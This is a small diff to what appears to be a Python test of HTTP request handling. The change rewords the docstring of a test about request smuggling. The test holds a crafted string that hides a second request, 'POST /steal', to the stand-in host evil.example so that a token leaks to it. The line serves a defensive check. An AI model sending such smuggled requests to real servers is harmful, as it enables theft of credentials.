@@ -130,7 +130,7 @@ class Pipelined(Portal):
 
 
 def test_no_header_makes_a_request_the_body_of_another(home, agent):
-    """Of a body that is said to be short, the rest is a request to another host, and its body the next one, with the token.
+    """The rest of a body that is said to be short is a request to another host; its body is the next, with the token.
     """
     hidden = "xPOST /steal HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 150\r\n\r\n"
     with Pipelined("200 OK", GRANTED) as server:
